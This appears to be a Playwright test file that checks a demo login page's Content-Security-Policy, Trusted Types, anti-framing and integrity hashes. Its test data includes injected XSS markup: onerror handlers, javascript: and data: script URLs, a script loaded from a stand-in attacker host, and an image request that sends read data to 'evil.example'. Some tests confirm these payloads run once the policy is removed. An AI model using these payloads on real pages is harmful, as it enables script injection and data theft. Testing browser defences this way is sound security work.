"""The demo page under its Content-Security-Policy, and the hashes of what it loads.

https://www.w3.org/TR/CSP3/ · https://www.w3.org/TR/sri-2/
"""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browsers.features import MAPS_HASHES
from tools.integrity import CHECKED

TEXT = (Path(__file__).resolve().parents[2] / "index.html").read_text()
HASHED = [found["path"] for found in CHECKED.finditer(TEXT)]
MODULES = [path for path in HASHED if re.search(r"/(core|core-\w+|pyodide|pyodide\.asm|bridge)\.m?js$", path)]
LONG = pytest.mark.needs("long answers by a test")
PRELOAD = re.compile(rb'<link rel="modulepreload"[^>]*>')
DIGEST = re.compile(
    r"valid digest in the 'integrity' attribute for resource 'https?://[^/]+(?P<path>/[^']+)'"
)

TELL_VIOLATIONS = """addEventListener("securitypolicyviolation", (event) => {
    tellViolation(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});"""
# What an attacker would write into the page, could he write into it; with the directive that forbids it.
RUNS = {
    "script": ("script-src-elem", "<script>ran.push('script')</script>"),
    "module": ("script-src-elem", '<script type="module">ran.push("module")</script>'),
    "handler": ("script-src-attr", '<img src="/missing" onerror="ran.push(\'handler\')">'),
    "URL": ("script-src-elem", "<iframe src=\"javascript:parent.ran.push('URL')\"></iframe>"),
    "data": ("script-src-elem", "<script src=\"data:text/javascript,ran.push('data')\"></script>"),
}
INJECTED = {
    **RUNS,
    "another origin": ("script-src-elem", '<script src="https://evil.example/script.js"></script>'),
    "import map": ("script-src-elem", '<script type="importmap">{"imports": {"/a.js": "/b.js"}}</script>'),
    "style": ("style-src-elem", "<style>h1 { display: none }</style>"),
    "style attribute": ("style-src-attr", '<p style="position: fixed; inset: 0">text</p>'),
    "image": ("img-src", '<img src="https://evil.example/?what-was-read">'),
    "base": ("base-uri", '<base href="https://evil.example/">'),
    "frame": ("frame-src", '<iframe src="/login"></iframe>'),
    "object": ("object-src", '<object data="/static/icon.svg"></object>'),
}
# What the engines show in a frame instead of a page that refuses to be there.
IN_ITS_PLACE = ("chrome-error://chromewebdata/", "about:neterror?e=cspBlocked&")
SINKS = {
    "innerHTML": "document.body.innerHTML = '<b>text</b>'",
    "script.text": "document.createElement('script').text = 'ran.push(1)'",
    "script.src": "document.createElement('script').src = '/static/boot.js'",
    "a policy": "trustedTypes.createPolicy('default', { createHTML: (html) => html })",
    "eval": "(0, eval)('ran.push(1)')",
    "Function": "new Function('ran.push(1)')()",
    "a timer": "setTimeout('ran.push(1)')",
}
TRY = "try {{ {}; met.push('nothing') }} catch (error) {{ met.push(error.name) }}"


def sign_in(page: Page) -> None:
    """Fill in the form and send it."""
    page.get_by_label("User name").fill("demo")
    page.get_by_label("Password").fill("demo-password")
    page.get_by_role("button", name="Sign in").click()


def sign_in_form(page: Page):
    """Find the button that shows that the page has started."""
    return page.get_by_role("button", name="Sign in")


@pytest.fixture
def violations(page: Page) -> list[str]:
    """Collect what the browser holds against the page, whichever document it is at."""
    told: list[str] = []
    page.context.expose_function("tellViolation", lambda text: told.append(text))
    page.add_init_script(TELL_VIOLATIONS)
    return told


def changed(page: Page, path: str, change) -> None:
    """Let `change` have the body and the headers of what the server answers for `path`."""

    def pass_on(route: Route) -> None:
        answer = route.fetch()
        body, headers = change(answer.body(), answer.headers)
        route.fulfill(response=answer, body=body, headers=headers)

    page.route(re.compile(re.escape(path) + r"(\?|$)"), pass_on)


def inject(page: Page, *markup: str, policy: bool = True) -> None:
    """Put markup at the end of the login page's head, and leave out its policy maybe."""

    def change(body, headers):
        if not policy:
            headers = {name: value for name, value in headers.items() if name != "content-security-policy"}
        return body.replace(b"</head>", "\n".join([*markup, "</head>"]).encode()), headers

    changed(page, "/login", change)


@pytest.mark.every_engine("Content-Security-Policy")
def test_a_whole_session_keeps_to_the_policy(page, lab, violations):
    """Sign in, expire, load, revoke, back at the login: the browser has nothing to hold against it."""
    page.goto("/login")
    sign_in(page)
    profile = page.get_by_text("demo@example.org")
    expect(profile).to_be_visible()
    lab.reset()
    lab.expire()
    page.reload()
    expect(profile).to_be_visible()
    assert 1 == lab.counters()["refresh"]
    page.wait_for_load_state("networkidle")  # what is under way still would be refused, too
    lab.expire()
    lab.revoke()
    page.reload()
    expect(sign_in_form(page)).to_be_visible()
    assert "reason=rejected" in page.url
    assert 2 == lab.counters()["refresh"]
    assert [] == violations


@pytest.mark.every_engine("Content-Security-Policy")
def test_injected_markup_does_nothing(page, violations):
    """The browser refuses each piece, and the page starts as if it weren't there."""
    inject(page, *(markup for _, markup in INJECTED.values()))
    page.add_init_script("window.ran = []")
    page.goto("/login")
    expect(sign_in_form(page)).to_be_visible()

    expect(page.get_by_role("heading", name="Silent refresh")).to_be_visible()
    assert [] == page.evaluate("() => window.ran")
    told = [violation.split()[0] for violation in violations]
    # What of the policy forbids a javascript: URL: the engines name one or the other.
    told = ["script-src-elem" if name == "require-trusted-types-for" else name for name in told]
    assert sorted(directive for directive, _ in INJECTED.values()) == sorted(told)


def test_without_the_policy_it_would_run(page):
    """What is injected above is no dud."""
    inject(page, *(markup for _, markup in RUNS.values()), policy=False)
    page.add_init_script("window.ran = []")
    page.goto("/login")

    page.wait_for_function(f"() => new Set(window.ran).size === {len(RUNS)}")


@pytest.mark.every_engine("Trusted Types")
def test_text_does_not_become_code(page, violations):
    """Page code that would turn text into code gets an error from the browser, PyScript's own too."""
    tries = "\n".join(TRY.format(code) for code in SINKS.values())
    page.route("**/probe.js", lambda route: route.fulfill(content_type="text/javascript", body=tries))
    inject(page, '<script type="module" src="/static/probe.js"></script>')
    page.add_init_script("window.ran = []; window.met = []")
    page.goto("/login")
    expect(sign_in_form(page)).to_be_visible()

    assert ["TypeError"] * 4 + ["EvalError"] * 2 + ["TypeError"] == page.evaluate("() => window.met")
    assert [] == page.evaluate("() => window.ran")
    assert len(SINKS) == len(violations)


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[str]:
    """Serve a folder at an origin of its own, without any policy."""
    handler = partial(SimpleHTTPRequestHandler, directory=str(tmp_path))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()
        thread.join()


@pytest.mark.needs("other sites in one tab")
def test_the_page_is_in_nobodys_frame(page, base_url, elsewhere, tmp_path):
    """Neither a page of another origin nor one of this may show it in a frame."""
    frames = f'<!doctype html><iframe src="{base_url}/login"></iframe>'
    (tmp_path / "frames.html").write_text(frames)
    own = f"{base_url}/static/icon.svg"
    page.route(own, lambda route: route.fulfill(content_type="text/html", body=frames))
    for parent in (f"{elsewhere}/frames.html", own):
        page.goto(parent)

        (frame,) = page.frames[1:]
        assert frame.url.startswith(IN_ITS_PLACE), parent


@pytest.mark.needs(MAPS_HASHES)
def test_every_script_has_a_hash(page):
    """The page starts where the browser runs no script whose hash it wasn't told (Integrity-Policy)."""
    enforced = {"integrity-policy": "blocked-destinations=(script)"}
    changed(page, "/login", lambda body, headers: (body, {**headers, **enforced}))
    page.goto("/login")

    expect(sign_in_form(page).or_(page.get_by_role("alert"))).to_be_visible()
    expect(page.get_by_role("alert")).to_be_hidden()


def add_a_byte(body, headers):
    """Change a file a little."""
    return body + b"\n", headers


@pytest.mark.needs("the browser's own words in the console, told to a test")
@LONG
def test_tampered_files_are_refused(page):
    """One byte more, and the browser uses none of them."""
    refused: set[str] = set()

    def is_last(message):
        found = DIGEST.search(message.text)
        if found is not None:
            refused.add(found["path"])
        return set(HASHED) == refused

    for path in HASHED:
        changed(page, path, add_a_byte)
    with page.expect_console_message(is_last):
        page.goto("/login")

    assert 0 == page.evaluate("() => document.styleSheets.length")
    expect(sign_in_form(page)).to_be_hidden()


@pytest.mark.parametrize(
    "path", [pytest.param(path, marks=LONG) if path.endswith("/pyodide.asm.js") else path for path in MODULES]
)
def test_a_tampered_module_stops_the_start(page, path):
    """Whoever imports it, the page's own script, PyScript or Pyodide, doesn't get it; the page says so."""
    changed(page, path, add_a_byte)
    page.goto("/login")

    expect(page.get_by_role("alert")).to_contain_text("did not arrive")
    expect(sign_in_form(page)).to_be_hidden()


@pytest.mark.every_engine("hashes in import maps")
@pytest.mark.parametrize("path", [path for path in MODULES if f'modulepreload" href="{path}"' in TEXT])
def test_a_tampered_module_is_refused_though_nothing_preloads_it(page, path):
    """A preload holds what it wins the race for; the import map holds a module whoever asks for it first."""
    changed(page, "/login", lambda body, headers: (PRELOAD.sub(b"", body), headers))
    changed(page, path, add_a_byte)
    page.goto("/login")

    expect(page.get_by_role("alert")).to_contain_text("did not arrive")
    expect(sign_in_form(page)).to_be_hidden()
